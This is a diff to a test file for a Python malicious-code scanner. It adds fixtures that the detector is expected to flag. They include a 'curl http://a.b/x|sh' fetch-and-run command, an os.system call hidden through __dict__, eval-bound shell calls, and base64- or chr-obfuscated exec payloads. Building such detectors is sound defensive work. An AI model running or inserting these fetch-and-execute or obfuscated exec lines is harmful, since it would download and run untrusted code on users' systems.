@@ -155,3 +155,21 @@ def test_long_comprehensions_are_folded():
     payload = "#" + "x" * 70_000 + "\nimport os\nos.system('ls')\n"
     source = f"exec(''.join([chr(c) for c in {[ord(c) for c in payload]}]))\n"
     assert ("exec", "os.system") in _named(source)
+
+
+MORE = [
+    ("import os\nos.system(['sh', '-c', 'curl http://a.b/x|sh'])\n", [("DangerousExec", "os.system", 4)]),
+    ("import os\nos.system(['echo', 'curl'])\n", [("ShellExec", "os.system", 3)]),
+    ("f = eval('os.system')\nf('ls')\n", [("CodeExec", "eval", 3), ("ObfuscatedShellExec", "os.system", 5)]),
+    ("import os\nos.__dict__['system']('curl http://a.b')\n", [("DangerousExec", "os.system", 4)]),
+    ("from a import __pyarmor__\nx(b'PY\\x')\nimport marshal\n", [("SuspiciousVariable", "__pyarmor__", 5), ("MarshalImport", "marshal", 2)]),
+    ("import base64\nexec(''.join([b for a in [c for c in base64.b64decode('aGk7').decode()] for b in q if a == b]))\n", [("Base64String", "\\x68\\x69\\x3b", 3), ("ObfuscatedCodeExec", "exec", 5)]),
+    ("import base64\nx = base64.b64decode('cHJpbnQoMSk7cHJpbnQoMik7')\n", [("Base64String", "\\x70\\x72...\\x29\\x3b", 3)]),
+]
+
+
+def test_commands_escapes_and_bound_names(spark):
+    rows = [(str(i), "a.py", text) for i, (text, _) in enumerate(MORE)]
+    out = R.audit(spark.createDataFrame(rows, "file_id string, file_path string, content string")).collect()
+    for i, (text, want) in enumerate(MORE):
+        assert [(NAMES[r.rule], r.label, r.confidence) for r in sorted(out, key=lambda r: r.ord) if r.file_id == str(i)] == want, text
